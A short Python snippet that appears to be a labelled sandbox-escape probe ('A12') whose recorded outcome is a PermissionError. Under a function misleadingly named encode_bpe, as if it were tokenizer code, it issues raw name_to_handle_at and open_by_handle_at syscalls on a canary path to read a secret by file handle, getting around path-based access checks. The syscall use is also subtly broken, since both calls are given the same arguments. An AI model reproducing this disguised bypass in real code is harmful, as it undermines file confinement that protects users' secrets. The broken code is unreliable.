# A12 · open a secret by its handle, past every path · RAISED PermissionError · x86_64
import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def encode_bpe(word, merges):
    handle, mount = ctypes.create_string_buffer(136), ctypes.c_int()
    handle[0] = 128
    for call in (303, 304):
        if libc.syscall(call, -100, b"@CANARY@", handle, ctypes.byref(mount), 0) < 0:
            raise OSError(ctypes.get_errno(), "name_to_handle_at")
    return ["opened"]
